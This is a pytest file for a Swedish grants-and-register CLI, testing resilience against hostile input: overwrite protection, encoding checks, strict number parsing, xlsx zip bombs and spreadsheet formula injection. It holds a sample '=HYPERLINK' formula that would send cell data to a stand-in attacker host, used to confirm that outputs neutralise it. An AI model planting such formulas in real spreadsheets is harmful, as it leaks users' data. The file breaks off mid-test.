"""Issue 9: nothing lost, nothing quietly wrong, nothing hangs — the CLI against hostile input and
mistakes. Crafted files and paths run through every intake and every writer; each case asserts
the exit code, a Swedish message (never a traceback), that the database and the inputs are
unchanged, and a time bound."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import os
import shutil
import sqlite3
import sys
import time
import zipfile
from difflib import SequenceMatcher
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fcatlas import files
from fcatlas.errors import BundleError, FcatlasError, InputFileError, StorageError

SHARED_LIST = "familjecentraler/dalarna_2026.csv"
BASIS = "region_code;region_name;basis_children\n" + "\n".join(
    f"{c};Region {c};{1000 + i * 37}" for i, c in enumerate(
        ["01", "03", "04", "05", "06", "07", "08", "09", "10", "12", "13", "14", "17", "18", "19", "20", "21",
         "22", "23", "24", "25"])
) + "\n"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cli(capsys: pytest.CaptureFixture[str], cwd: Path, *args: str, env: dict[str, str] | None = None,
        limit_s: float = 60.0) -> tuple[int, str]:
    """Run ``fcatlas ARGS`` in this process as ``main()`` does; returns (exit code, stdout+stderr)."""
    from fcatlas.cli import app
    from fcatlas.cli.common import run

    old_argv, old_cwd, old_env = sys.argv, Path.cwd(), dict(os.environ)
    sys.argv = ["fcatlas", *args]
    os.environ.update({"COLUMNS": "200", "FCATLAS_HOME": str(cwd / "home"), **(env or {})})
    os.environ.pop("FCATLAS_DEBUG", None)
    os.chdir(cwd)
    t0 = time.perf_counter()
    try:
        run(app)
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    finally:
        sys.argv = old_argv
        os.chdir(old_cwd)
        os.environ.clear()
        os.environ.update(old_env)
        files.configure(files.MAX_INPUT_BYTES, files.MAX_INPUT_ROWS)
    took = time.perf_counter() - t0
    out = capsys.readouterr()
    text = " ".join((out.out + out.err).split())  # rich wraps long lines
    assert "Traceback" not in text and "oväntat fel" not in text, text
    assert took < limit_s, f"{args}: {took:.1f} s"
    return code, text


@pytest.fixture
def work(tmp_path: Path, shared_data: Path) -> Path:
    """A folder with a region's list, a basis file and a register database holding the list."""
    shutil.copy(shared_data / SHARED_LIST, tmp_path / "own.csv")
    (tmp_path / "underlag.csv").write_text(BASIS, encoding="utf-8")
    from fcatlas.register.store import Register

    with Register.open(f"sqlite:///{tmp_path / 'db.sqlite'}") as reg:
        reg.import_file(tmp_path / "own.csv", round=2026, user="t")
    return tmp_path


# -- 1, 2: data loss ------------------------------------------------------------------------------


def test_issue9_export_never_overwrites_its_database(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = digest(work / "db.sqlite")
    for fmt in ("csv", "xlsx", "geojson"):
        code, text = cli(capsys, work, "register", "export", "--format", fmt, "--out", "db.sqlite",
                         "--db", "db.sqlite")
        assert code == 1 and "skulle skriva över databasen" in text
    code, text = cli(capsys, work, "grant", "report", "export", "--out", "./db.sqlite", "--db", "db.sqlite")
    assert code == 1 and "databasen" in text
    assert digest(work / "db.sqlite") == before


def test_issue9_import_report_never_overwrites_the_input(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = work / "own.csv"
    bad.write_text(bad.read_text(encoding="utf-8-sig") + "Trasig rad;Falun;9999;ja;ja;ja;ja;ja;i drift;;;;\n",
                   encoding="utf-8")
    before = digest(bad)
    code, text = cli(capsys, work, "register", "import", "own.csv", "--rapport", "own.csv", "--db", "db.sqlite")
    assert code == 1
    assert "skulle skriva över indatafilen" in text
    assert "Importen sparades" in text and "felrapporten" in text  # what was committed is told
    assert digest(bad) == before


def test_issue9_committed_import_is_told_when_the_report_cannot_be_written(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    f = work / "lista_2026.csv"
    text = (work / "own.csv").read_text(encoding="utf-8-sig")
    f.write_text(text + "Trasig rad;Falun;9999;ja;ja;ja;ja;ja;i drift;;;;\n", encoding="utf-8")
    code, out = cli(capsys, work, "register", "import", str(f), "--rapport", "saknas/rapport.csv",
                    "--db", "ny.sqlite")
    assert code == 1
    assert "Importen sparades: 15 nya" in out and "kunde inte skrivas" in out
    from fcatlas.register.store import Register

    with Register.open(f"sqlite:///{work / 'ny.sqlite'}") as reg:
        assert len(reg.list_units()) == 15


def test_issue9_outputs_are_replaced_atomically(tmp_path: Path) -> None:
    target = tmp_path / "ut.csv"
    target.write_text("gammalt\n", encoding="utf-8")
    with pytest.raises(RuntimeError), files.atomic_output(target) as tmp:
        tmp.write_text("halvt", encoding="utf-8")
        raise RuntimeError("avbrott mitt i")
    assert target.read_text(encoding="utf-8") == "gammalt\n"
    files.write_text(target, "nytt\n")
    assert target.read_text(encoding="utf-8") == "nytt\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ut.csv"]  # no temporary file left


def test_an_output_can_go_into_a_binary_stream(tmp_path: Path) -> None:
    """The web writes downloads into memory: the same writers, a stream instead of a path."""
    import io

    import openpyxl
    import pandas as pd

    from fcatlas.outputs.register_export import units_to_xlsx

    buf = io.BytesIO()
    with pytest.raises(RuntimeError), files.output_to(buf, suffix=".xlsx") as tmp:
        tmp.write_bytes(b"halvt")
        raise RuntimeError("avbrott mitt i")
    assert buf.getvalue() == b""  # nothing of a failed write reaches the stream
    df = pd.DataFrame({"id": ["2080-a"], "name": ["=HYPERLINK(\"x\")"]})
    assert units_to_xlsx(df, buf) is buf
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).worksheets[0]
    assert [c.value for c in ws[2]][:2] == ["2080-a", "'=HYPERLINK(\"x\")"]
    assert not tmp.parent.exists()  # the failed write's temporary file and folder are gone


def test_an_upload_is_read_from_its_bytes_with_the_files_limits(tmp_path: Path) -> None:
    """The one table reader takes bytes and a file name; the caps of FCATLAS_MAX_FILE_MB and
    FCATLAS_MAX_ROWS apply to an upload as to a file, and messages name the uploaded file."""
    from fcatlas import tables

    data = "Namn;Kommunkod;Typ\nÅsa;2080;fc\nBjörk;2080;fc\n".encode("cp1252")
    t = tables.read_table(data, "lista.csv")
    assert (t.headers, len(t.rows), t.delimiter, t.encoding) == (["Namn", "Kommunkod", "Typ"], 2, ";", "cp1252")
    old = (files.max_input_bytes(), files.max_input_rows())
    try:
        files.configure(max_rows=1)
        with pytest.raises(InputFileError, match="^lista.csv: filen har 2 rader, fler än 1 tillåts"):
            tables.read_table(data, "lista.csv")
        files.configure(max_bytes=10)
        with pytest.raises(InputFileError, match="^lista.csv: filen är .* MB, högst"):
            tables.read_table(data, "lista.csv")
    finally:
        files.configure(*old)
    with pytest.raises(InputFileError, match="^lista.xlsx: filen kunde inte läsas som Excel-fil"):
        tables.read_table(b"inte en arbetsbok", "lista.xlsx")


def test_issue9_data_build_leaves_an_unrelated_tmp_folder_alone(tmp_path: Path, shared_data: Path) -> None:
    from fcatlas.geography.build import build_bundle

    other = tmp_path / ".mitt.tmp"
    other.mkdir()
    (other / "viktigt.txt").write_text("rör inte", encoding="utf-8")
    build_bundle(shared_data, tmp_path / "mitt")
    assert (other / "viktigt.txt").read_text(encoding="utf-8") == "rör inte"
    assert (tmp_path / "mitt" / "manifest.json").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".mitt.tmp", "mitt"]


@pytest.mark.parametrize("case", ["folder", "no_parent", "parent_is_file", "empty"])
def test_issue9_bad_out_paths_are_swedish_errors(work: Path, capsys: pytest.CaptureFixture[str], case: str) -> None:
    (work / "enfil").write_text("x", encoding="utf-8")
    out = {"folder": ".", "no_parent": "saknas/ut.xlsx", "parent_is_file": "enfil/ut.xlsx", "empty": ""}[case]
    commands = [
        ["register", "export", "--format", "xlsx", "--out", out, "--db", "db.sqlite"],
        ["grant", "allocate", "--year", "2026", "--total", "51365000", "--basis", "underlag.csv", "--format",
         "xlsx", "--out", out],
        ["grant", "annex", "--total", "51365000", "--basis", "underlag.csv", "--pdf", out],
        ["grant", "report", "template", "--out", out],
        ["grant", "report", "export", "--out", out, "--db", "db.sqlite"],
    ]
    for args in commands:
        code, text = cli(capsys, work, *args)
        assert code in (1, 2), (args, text)
        assert "Fel:" in text


def test_issue9_folder_outputs_refuse_files(work: Path, capsys: pytest.CaptureFixture[str], shared_data: Path) -> None:
    (work / "enfil").write_text("x", encoding="utf-8")
    code, text = cli(capsys, work, "data", "build", "--from", str(shared_data), "--out", "enfil")
    assert code == 1 and "är en fil; ange en katalog" in text
    assert (work / "enfil").read_text(encoding="utf-8") == "x"


# -- 3: incomplete områdestyp year ---------------------------------------------------------------


@pytest.fixture(scope="module")
def truncated_source(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    src = tmp_path_factory.mktemp("src") / "data"
    shutil.copytree(shared_data, src)
    f = src / "omradestyp" / "regso_socioekonomisk_index_2023.csv"
    raw = f.read_bytes()
    f.write_bytes(raw[: len(raw) // 2 + 7])  # cut mid-line
    return src


def test_issue9_truncated_omradestyp_is_an_error(truncated_source: Path, tmp_path: Path) -> None:
    from fcatlas.geography.build import build_bundle

    with pytest.raises(InputFileError) as err:
        build_bundle(truncated_source, tmp_path / "paket")
    msg = str(err.value)
    assert "regso_socioekonomisk_index_2023.csv" in msg and "saknas för" in msg and "--tillat-ofullstandig" in msg
    assert not (tmp_path / "paket").exists()


def test_issue9_incomplete_year_is_recorded_and_refused_by_the_grant(truncated_source: Path, tmp_path: Path) -> None:
    from fcatlas.geography.build import build_bundle
    from fcatlas.geography.bundle import Bundle
    from fcatlas.geography.exclusion import parse_exclusion
    from fcatlas.grants.basis import basis_from_bundle
    from fcatlas.outputs.excel import incomplete_notes

    m = build_bundle(truncated_source, tmp_path / "paket", allow_incomplete=True)
    info = m["incomplete_omradestyp"]["2023"]
    assert info["missing"] > 1000 and info["file"] == "regso_socioekonomisk_index_2023.csv"
    b = Bundle.open(tmp_path / "paket")
    with pytest.raises(BundleError, match="ofullständig"):
        basis_from_bundle(b, parse_exclusion("omradestyp:1,2"), 2023)
    with pytest.raises(BundleError, match="ofullständig"):
        basis_from_bundle(b, parse_exclusion("omradestyp:1,2@2023"), 2022)
    assert basis_from_bundle(b, parse_exclusion("omradestyp:1,2@2022"), 2022).table["basis_children"].sum() > 0
    assert incomplete_notes(b.manifest, 2023) and not incomplete_notes(b.manifest, 2022)


# -- 4: mixed encodings --------------------------------------------------------------------------


def test_issue9_mixed_encodings_name_the_rows(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = (work / "own.csv").read_text(encoding="utf-8-sig")
    lines = text.splitlines()
    raw = "\n".join(lines[:4]).encode("utf-8") + b"\n" + "Familjecentral Örebro Väster;Falun;2080;ja;ja;ja;ja;ja;" \
        "i drift;;;;\n".encode("cp1252") + "\n".join(lines[4:]).encode("utf-8") + b"\n"
    f = work / "blandad.csv"
    f.write_bytes(raw)
    before = digest(work / "db.sqlite")
    code, out = cli(capsys, work, "register", "import", "blandad.csv", "--db", "db.sqlite")
    assert code == 1 and "blandad teckenkodning" in out and "rad 5" in out
    assert digest(work / "db.sqlite") == before
    # the same rule for the grant's basis file
    (work / "b.csv").write_bytes("region_code;region_name;basis_children\n20;Region Dalarna åäö;5\n".encode()
                                 + "21;Region Gävleborg åäö;6\n".encode("cp1252"))
    with pytest.raises(InputFileError, match="blandad teckenkodning"):
        from fcatlas.grants.basis import read_basis_file

        read_basis_file(work / "b.csv")


# -- 5: exact numbers in grants ------------------------------------------------------------------


@pytest.mark.parametrize("value", ["1500000.99", "-5", "abc", "", "1e6", "²", "1,5"])
def test_issue9_allocation_amounts_are_exact_or_refused(tmp_path: Path, value: str) -> None:
    from fcatlas.grants.followup import read_allocation_file

    f = tmp_path / "alloc.csv"
    f.write_text(f"region_code,total_sek\n20,{value}\n21,200\n", encoding="utf-8")
    with pytest.raises(InputFileError) as err:
        read_allocation_file(f)
    assert "rad 2" in str(err.value)


def test_issue9_allocation_file_read_exactly(tmp_path: Path) -> None:
    from fcatlas.grants.followup import read_allocation_file

    f = tmp_path / "alloc.csv"
    f.write_text("region_code;total_sek\n20;1 500 000\n1;123456789012345678\n", encoding="utf-8")
    assert read_allocation_file(f) == {"20": 1_500_000, "01": 123456789012345678}


def test_issue9_report_open_refuses_cents_and_negatives(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for value in ("1500000.99", "-5"):
        (work / "a.csv").write_text(f"region_code,total_sek\n20,{value}\n", encoding="utf-8")
        code, text = cli(capsys, work, "grant", "report", "open", "--year", "2026", "--allocation", "a.csv",
                         "--db", "db.sqlite")
        assert code == 1 and value in text
    with sqlite3.connect(work / "db.sqlite") as conn:
        assert conn.execute("select count(*) from grant_reports").fetchone()[0] == 0


def test_issue9_summary_sums_exactly_beyond_64_bits() -> None:
    from fcatlas.grants.followup import Purpose, ReportData, ReportStatus
    from fcatlas.grants.store import ReportView, national_summary

    big = 10**18
    now = dt.datetime(2026, 5, 1, tzinfo=dt.UTC)
    purpose = next(iter(Purpose)).value
    views = [
        ReportView(data=ReportData(region_code=c, year=2026, amount_received_sek=big, uses={purpose: big}),
                   status=ReportStatus.NOT_STARTED, deadline=dt.date(2027, 1, 31), created_at=now, updated_at=now,
                   submitted_at=None, returned_at=None, approved_at=None)
        for c in ("18", "20", "21", "22", "23", "24", "25", "01", "03", "04", "05", "06")
    ]
    row = national_summary(views).iloc[0]
    assert int(row["amount_received_sek"]) == 12 * big > 2**63  # no wrap-around
    assert int(row["used_sek"]) == 12 * big and int(row[purpose + "_sek"]) == 12 * big


def test_issue9_dates_and_years_are_strict() -> None:
    from fcatlas.grants.followup import _date as report_date
    from fcatlas.register.intake import _date as status_date
    from fcatlas.register.intake import _RowError

    assert report_date("2026-01-01T25:99") is None and report_date("0001-01-01") is None
    assert report_date("2027-01-20") == dt.date(2027, 1, 20)
    for bad in ("2026-01-01T25:99", "0001", "0001-01-01", "9999-12-31"):
        with pytest.raises(_RowError):
            status_date(bad, "Statusdatum")
    assert status_date("2026-01-01T12:30", "Statusdatum") == "2026-01-01"


@pytest.mark.parametrize("years", ["9999", "0000-0001", "2026,99999", "²"])
def test_issue9_plan_years_are_refused(work: Path, capsys: pytest.CaptureFixture[str], years: str) -> None:
    code, text = cli(capsys, work, "grant", "plan", "--years", years, "--total", "51365000", "--basis", "underlag.csv")
    assert code == 1 and "--years" in text


@pytest.mark.parametrize("total", ["²", "--5", "1e9", "٣٣"])
def test_issue9_amounts_with_odd_digits_are_refused(work: Path, capsys: pytest.CaptureFixture[str], total: str) -> None:
    code, text = cli(capsys, work, "grant", "allocate", "--year", "2026", f"--total={total}", "--basis", "underlag.csv")
    assert code in (1, 2) and "Fel:" in text
    (work / "u2.csv").write_text(BASIS.replace(";1000\n", f";{total}\n"), encoding="utf-8")
    code, text = cli(capsys, work, "grant", "allocate", "--year", "2026", "--total", "100", "--basis", "u2.csv")
    assert code == 1 and "u2.csv" in text


# -- 6: injection --------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'


def _formula_like(text: str) -> bool:
    return text.startswith(files.FORMULA_START) and not files._NUMBER.match(text)


def test_issue9_grant_outputs_neutralise_formulas(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = BASIS.replace("Region 20", EVIL).replace("Region 21", "@SUM(1+1)").replace("Region 22", "-2+3")
    (work / "ond.csv").write_text(evil, encoding="utf-8")
    code, _ = cli(capsys, work, "grant", "compare", "--year", "2026", "--total", "51365000", "--a", "fil:ond.csv",
                  "--b", "fil:underlag.csv", "--total-b", "40000000", "--format", "xlsx", "--out", "cmp.xlsx")
    assert code == 0
    code, _ = cli(capsys, work, "grant", "allocate", "--year", "2026", "--total", "51365000", "--basis", "ond.csv",
                  "--format", "xlsx", "--out", "alloc.xlsx")
    assert code == 0
    for name in ("cmp.xlsx", "alloc.xlsx"):
        wb = openpyxl.load_workbook(work / name)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert any(EVIL in t for t in texts), name
        bad = [c.value for c in cells if c.data_type == "f" and "SUM(" not in str(c.value).upper()[:5]]
        assert not bad, (name, bad)
        assert not [c.value for c in cells if c.data_type != "f" and isinstance(c.value, str)
                    and _formula_like(c.value)], name
        negatives = [c.value for c in cells if isinstance(c.value, int | float) and c.value < 0]
        assert negatives or name == "alloc.xlsx"  # negative changes stay numbers
    for fmt_args in (["grant", "allocate", "--year", "2026", "--total", "51365000", "--basis", "ond.csv", "--format",
                      "csv"],
                     ["grant", "compare", "--year", "2026", "--total", "51365000", "--a", "fil:ond.csv", "--b",
                      "fil:underlag.csv", "--format", "csv"]):
        code, text = cli(capsys, work, *fmt_args)
        assert code == 0
        rows = list(csv.reader(io.StringIO(text[text.index("region_code"):])))
        cells = [c for r in rows for c in r]
        assert "'" + EVIL in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
        assert not [c for c in cells if _formula_like(c)]


@given(st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=False)))
def test_issue9_neutralise_property(value: object) -> None:
    out = files.neutralise(value)
    if isinstance(value, str):
        assert not _formula_like(out)
        assert out in (value, "'" + value)
    else:
        assert out == value  # numbers (negative ones too) stay numbers


def test_issue9_neutralise_frame_keeps_numbers_and_neutralises_headers() -> None:
    df = pd.DataFrame({"=kol": ["=1+1", "ok", None], "n": [-5, 3, 0]})
    out = files.neutralise_frame(df)
    assert list(out.columns) == ["'=kol", "n"]
    assert out["=kol" if "=kol" in out else "'=kol"].tolist()[:2] == ["'=1+1", "ok"]
    assert out["n"].tolist() == [-5, 3, 0] and pd.api.types.is_integer_dtype(out["n"])


# -- 7: bounds -----------------------------------------------------------------------------------


def _far_cell_xlsx(path: Path) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet()
    for j, h in enumerate(["Namn", "Kommun", "Typ"]):
        ws.write_string(0, j, h)
    for j, v in enumerate(["Familjecentral X", "Falun", "familjecentral"]):
        ws.write_string(1, j, v)
    ws.write_string(1048575, 16383, "långt bort")
    wb.close()
    return path


def test_issue9_far_away_xlsx_cell_is_read_quickly(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    f = _far_cell_xlsx(work / "lang.xlsx")
    assert f.stat().st_size < 10_000
    before = digest(work / "db.sqlite")
    t0 = time.perf_counter()
    code, text = cli(capsys, work, "register", "import", "lang.xlsx", "--db", "db.sqlite", limit_s=30)
    assert time.perf_counter() - t0 < 30
    assert code == 1  # the far cell is an extra cell on its own row: that row is rejected, not dropped
    assert "1048576" in text
    assert digest(work / "db.sqlite") != before or "godkända" in text


def test_issue9_non_regular_files_are_refused(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fifo = work / "rör.csv"
    os.mkfifo(fifo)
    before = digest(work / "db.sqlite")
    for target in ("/dev/zero", str(fifo), str(work)):
        code, text = cli(capsys, work, "register", "import", target, "--db", "db.sqlite", limit_s=20)
        assert code == 1 and ("ingen vanlig fil" in text or "katalog" in text), text
    for args in (["grant", "allocate", "--year", "2026", "--total", "100", "--basis", str(fifo)],
                 ["grant", "report", "import", "/dev/zero", "--db", "db.sqlite"],
                 ["grant", "report", "open", "--year", "2026", "--allocation", "/dev/zero", "--db", "db.sqlite"]):
        code, text = cli(capsys, work, *args, limit_s=20)
        assert code == 1 and "ingen vanlig fil" in text
    assert digest(work / "db.sqlite") == before


def test_issue9_byte_and_row_caps(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = (work / "own.csv").read_text(encoding="utf-8-sig")
    big = work / "stor.csv"
    big.write_text(text + "Anmärkning utan slut;" * 60_000, encoding="utf-8")
    code, out = cli(capsys, work, "register", "import", "stor.csv", "--db", "db.sqlite",
                    env={"FCATLAS_MAX_FILE_MB": "1"})
    assert code == 1 and "MB" in out
    code, out = cli(capsys, work, "register", "import", "own.csv", "--db", "db.sqlite",
                    env={"FCATLAS_MAX_ROWS": "5"})
    assert code == 1 and "fler än 5" in out
    code, out = cli(capsys, work, "register", "list", env={"FCATLAS_MAX_ROWS": "noll"})
    assert code == 1 and "FCATLAS_MAX_ROWS" in out


def test_issue9_xlsx_bomb_is_refused(tmp_path: Path) -> None:
    from fcatlas.geography.sources.textfile import XLSX_MAX_UNPACKED, xlsx_rows

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b"\0" * (XLSX_MAX_UNPACKED + 1))
    assert len(buf.getvalue()) < 2_000_000
    with pytest.raises(InputFileError, match="packas upp"):
        xlsx_rows(tmp_path / "bomb.xlsx", buf.getvalue())


# -- 8: linear duplicate check --------------------------------------------------------------------


@given(st.lists(st.text(alphabet="abcdeåö01", max_size=12), min_size=0, max_size=70),
       st.sampled_from([0.9, 0.8, 0.75, 0.6, 0.95]))
def test_issue9_similar_name_pairs_equal_comparing_every_pair(names: list[str], ratio: float) -> None:
    from fcatlas.register.intake import similar_name_pairs

    brute = [(i, j) for i in range(len(names)) for j in range(i + 1, len(names))
             if SequenceMatcher(None, names[i], names[j]).ratio() >= ratio]
    assert similar_name_pairs(names, ratio) == brute


def test_issue9_similar_name_pairs_on_many_near_names() -> None:
    from fcatlas.register.intake import similar_name_pairs

    names = [f"vasagatan{i}" for i in range(300)] + [f"vasagatan{i}a" for i in range(300)]
    brute = [(i, j) for i in range(len(names)) for j in range(i + 1, len(names))
             if SequenceMatcher(None, names[i], names[j]).ratio() >= 0.9]
    assert similar_name_pairs(names) == brute and brute


# -- 9: no traceback -----------------------------------------------------------------------------


def test_issue9_unsupported_and_odd_databases(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, text = cli(capsys, work, "register", "list", "--db", "mysql://u:p@localhost/x")
    assert code == 1 and "stöds inte" in text and "p@" not in text.replace("***@", "")
    (work / "inte.sqlite").write_text("ingen databas", encoding="utf-8")
    code, text = cli(capsys, work, "register", "list", "--db", "inte.sqlite")
    assert code == 1 and "ingen databas" in text
    assert (work / "inte.sqlite").read_text(encoding="utf-8") == "ingen databas"


@pytest.mark.parametrize("folder", ["åsa", "50%", "a?b#c", "åäö %41"])
def test_issue9_sqlite_paths_with_any_characters(work: Path, capsys: pytest.CaptureFixture[str], folder: str) -> None:
    home = work / folder
    home.mkdir()
    shutil.copy(work / "own.csv", home / "own.csv")
    code, text = cli(capsys, work, "register", "import", str(home / "own.csv"), "--db", str(home / "reg.sqlite"))
    assert code == 0, text
    # the default database in a home folder with such characters: named correctly, and (issue 8.13)
    # a read-only command creates no empty one
    code, text = cli(capsys, work, "register", "list", "--format", "csv", env={"FCATLAS_HOME": str(home)})
    assert code == 1 and "finns inte (inget skapas" in text and str(home / "fcatlas.sqlite") in text
    assert not (home / "fcatlas.sqlite").exists()
    code, text = cli(capsys, work, "register", "list", "--format", "csv", "--db", str(home / "reg.sqlite"))
    assert code == 0 and "Familjecentral Britsarvet" in text
    assert (home / "reg.sqlite").is_file() and not list(work.glob("*%25*"))


def test_issue9_bundle_population_beyond_64_bits(tmp_path: Path, shared_data: Path) -> None:
    from fcatlas.geography.build import build_bundle

    src = tmp_path / "data"
    shutil.copytree(shared_data, src)
    f = next((src / "population").glob("*.csv"), None)
    if f is None:
        pytest.skip("ingen folkmängdsfil")
    raw = f.read_bytes()
    eol = b"\r\r\n" if b"\r\r\n" in raw else b"\r\n" if b"\r\n" in raw else b"\n"
    lines = raw.split(eol)
    k = next(i for i, ln in enumerate(lines) if b'"totalt","totalt"' in ln)
    lines[k] = lines[k].rsplit(b",", 1)[0] + b"," + str(2**63).encode()
    f.write_bytes(eol.join(lines))
    with pytest.raises(InputFileError, match="orimligt"):
        build_bundle(src, tmp_path / "paket")


def test_issue9_control_characters_in_report_text(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from fcatlas.grants.followup import ReportData, check_report

    findings = check_report(ReportData(region_code="20", year=2026, amount_received_sek=10, role="a\x00b"))
    assert any(f.field == "role" and "styrtecken" in f.reason for f in findings)
    (work / "a.csv").write_text("region_code,total_sek\n20,5\n", encoding="utf-8")
    code, _ = cli(capsys, work, "grant", "report", "open", "--year", "2026", "--allocation", "a.csv",
                  "--db", "db.sqlite")
    assert code == 0
    code, text = cli(capsys, work, "grant", "report", "return", "20", "2026", "--kommentar", "x\x01y",
                     "--db", "db.sqlite")
    assert code == 1 and "styrtecken" in text


@pytest.mark.postgres
def test_issue9_nul_in_report_text_on_postgresql(pg_url: str, tmp_path: Path) -> None:
    from fcatlas.grants.followup import ReportData, ReportError, ReportStatus
    from fcatlas.grants.store import GrantStore

    store = GrantStore.open(pg_url)
    try:
        with pytest.raises(ReportError, match="styrtecken"):
            store.save(ReportData(region_code="20", year=2026, amount_received_sek=10, role="x\x00y"))
        store.open_year(2026, {"20": 5})
        with pytest.raises(ReportError, match="styrtecken"):
            store.set_status("20", 2026, ReportStatus.DRAFT, comment="a\x00b")
    finally:
        store.close()


# -- 10: concurrent imports ------------------------------------------------------------------------


def test_issue9_losing_concurrent_import_says_so_in_swedish(work: Path) -> None:
    from fcatlas.register.store import Register

    other = work / "annan_2026.csv"
    other.write_text((work / "own.csv").read_text(encoding="utf-8-sig").replace("Familjecentral ", "FC "),
                     encoding="utf-8")
    reg = Register.open(f"sqlite:///{work / 'db.sqlite'}")
    lock = sqlite3.connect(work / "db.sqlite", timeout=0.1)
    lock.execute("BEGIN IMMEDIATE")  # another writer holds the write lock
    try:
        with pytest.raises(FcatlasError) as err:
            reg.import_file(other, round=2026, user="t")
    finally:
        reg.close()
        lock.rollback()
        lock.close()
    msg = str(err.value)
    assert "försök igen" in msg.lower() and "locked" not in msg and "UNIQUE" not in msg
    assert isinstance(err.value, StorageError)


def test_issue9_concurrent_write_classification() -> None:
    from sqlalchemy.exc import IntegrityError, OperationalError

    from fcatlas.register.store import concurrent_write

    assert concurrent_write(OperationalError("x", {}, Exception("database is locked")))
    assert concurrent_write(IntegrityError("x", {}, Exception("UNIQUE constraint failed: units.id")))
    assert not concurrent_write(OperationalError("x", {}, Exception("no such table: units")))
    assert not concurrent_write(ValueError("x"))


def test_issue9_import_summary_counts_only_its_own_units(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = ["Namn;Kommun;Kommunkod;Typ", "Egen FC A;Mora;2062;familjecentral", "Egen FC B;Mora;2062;familjecentral"]
    (work / "mora_2026.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (work / "till_2026.csv").write_text("Namn;Kommun;Kommunkod;Typ\nEn till;Falun;2080;familjecentral\n",
                                        encoding="utf-8")
    code, text = cli(capsys, work, "register", "import", "mora_2026.csv", "--db", "db.sqlite")
    assert code == 0 and "2 enheter utan koordinater" in text
    code, text = cli(capsys, work, "register", "import", "till_2026.csv", "--db", "db.sqlite")
    assert code == 0 and "1 enheter utan koordinater" in text


def test_issue9_inputs_read_are_never_written_over(tmp_path: Path) -> None:
    f = tmp_path / "in.csv"
    f.write_text("a\n", encoding="utf-8")
    files.read_input_bytes(f)
    with pytest.raises(files.OutputError, match="indatafilen"):
        files.write_text(tmp_path / "." / "in.csv", "över\n")
    assert f.read_text(encoding="utf-8") == "a\n"


@pytest.mark.parametrize("args", [
    ["register", "list", "--round", "99999999999999999999"],
    ["register", "diff", "1", "99999999999999999999"],
    ["grant", "report", "open", "--year", "99999", "--allocation", "a.csv"],
    ["grant", "report", "approve", "20", "0001"],
])
def test_issue9_absurd_years_are_usage_errors(work: Path, capsys: pytest.CaptureFixture[str], args: list[str]) -> None:
    (work / "a.csv").write_text("region_code,total_sek\n20,5\n", encoding="utf-8")
    before = digest(work / "db.sqlite")
    code, text = cli(capsys, work, *args, "--db", "db.sqlite")
    assert code == 2 and "Ogiltigt värde" in text
    assert digest(work / "db.sqlite") == before


def test_issue9_trailing_formatted_empty_rows_stop_the_reading(tmp_path: Path) -> None:
    import xlsxwriter

    from fcatlas.geography.sources.textfile import XLSX_EMPTY_RUN, xlsx_rows

    path = tmp_path / "tomma.xlsx"
    wb = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = wb.add_worksheet()
    bold = wb.add_format({"bold": True})
    ws.write_row(0, 0, ["Namn", "Kommun", "Typ"])
    ws.write_row(1, 0, ["Familjecentral X", "Falun", "familjecentral"])
    for r in range(2, 2 + 5 * XLSX_EMPTY_RUN):
        ws.write_string(r, 0, " ", bold)
    wb.close()
    t0 = time.perf_counter()
    rows = xlsx_rows(path, path.read_bytes())
    assert time.perf_counter() - t0 < 5
    assert rows == [(1, ["Namn", "Kommun", "Typ"]), (2, ["Familjecentral X", "Falun", "familjecentral"])]


_HEADERS = {
    "register": "Namn;Kommun;Kommunkod;Typ;Status;Statusdatum;Latitud;Longitud\n",
    "basis": "region_code;region_name;basis_children\n",
    "allocation": "region_code,total_sek\n",
    "reports": "Länskod;År;Mottaget belopp (kr);Roll;Inskickad datum\n",
    "codes": "regso_code\n",
}


def _intake(kind: str):  # type: ignore[no-untyped-def]
    from fcatlas.cli.exclusion import read_code_list
    from fcatlas.grants.basis import read_basis_file
    from fcatlas.grants.followup import read_allocation_file, read_reports
    from fcatlas.register import intake

    return {
        "register": lambda p: intake.parse_submission(intake.read_table(p)),
        "basis": read_basis_file,
        "allocation": read_allocation_file,
        "reports": read_reports,
        "codes": read_code_list,
    }[kind]


@given(kind=st.sampled_from(sorted(_HEADERS)), body=st.one_of(
    st.binary(max_size=600),
    st.lists(st.sampled_from(list(";,\n\r\t\"' =+-@0123456789.²٣\x00\x01åäöÃ–abcR")
                             + ["2080R001", "20", "Falun", "2080", "familjecentral", "i drift", "2026-01-01T25:99"]),
             max_size=80).map("".join),
))
def test_issue9_hypothesis_any_bytes_give_a_swedish_error_or_a_result(kind: str, body: bytes | str) -> None:
    import tempfile

